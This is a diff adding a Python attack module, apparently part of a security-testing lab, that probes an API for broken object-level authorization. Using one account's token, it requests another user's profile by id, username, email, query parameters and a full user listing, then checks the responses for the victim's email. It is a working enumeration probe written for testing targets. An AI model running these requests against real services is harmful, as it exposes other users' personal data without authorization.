@@ -1,0 +1,49 @@
+"""Read who somebody else is, with a token of your own.
+
+Exploits a server that checks who asks, and whether they may read users, but not whose profile it
+is. Whoever has an account reads the addresses of all, one id after the other.
+Source: OWASP API Security Top 10 2023, API1 Broken Object Level Authorization,
+https://owasp.org/API-Security/editions/2023/en/0xa1-broken-object-level-authorization/
+"""
+
+from collections.abc import Iterator
+
+import httpx
+
+from attacks.lab.attack import attack
+from attacks.lab.outcome import Outcome, Result, breakdown, got_in, refused
+from attacks.lab.target import NotApplicableError, Person, Target, borne
+from attacks.lab.ways_out import MISSING
+
+
+def looks(target: Target, victim: Person) -> Iterator[tuple[str, httpx.Response]]:
+    """Ask for the victim by each name; last, for all."""
+    header = borne(target.token_of(target.attacker))
+    own, other = target.id_of(target.attacker), target.id_of(victim)
+    for trick, path, query in (
+        ("its id", f"/users/{other}", {}),
+        ("its id in capitals", f"/users/{other.upper()}", {}),
+        ("its name", f"/users/{victim.username}", {}),
+        ("its address", f"/users/{victim.email}", {}),
+        ("its id beside your own", f"/users/{own}", {"user_id": other, "id": other}),
+        ("its name beside your own", f"/users/{own}", {"username": victim.username}),
+        ("nothing, so all", "/users", {}),
+    ):
+        yield trick, target.http.get(path, params=query, headers=header)
+
+
+@attack(door="other-profile")
+def run(target: Target) -> Outcome:
+    """Look for the victim's address in each answer."""
+    target.must_issue_tokens()
+    victim, own = target.enrol(), target.id_of(target.attacker)
+    profile = target.http.get(f"/users/{own}", headers=borne(target.token_of(target.attacker)))
+    if profile.status_code in MISSING:
+        raise NotApplicableError("there are no profiles here")
+    answers = dict(looks(target, victim))
+    for trick, answer in answers.items():
+        if answer.is_success and victim.email in answer.text:
+            return got_in(f"{trick}: {answer.status_code}, with the address")
+    end = breakdown(answers)
+    held = refused(f"{len(answers)} ways to ask: none shows the address of somebody else")
+    return end if end.result is Result.BROKE else held
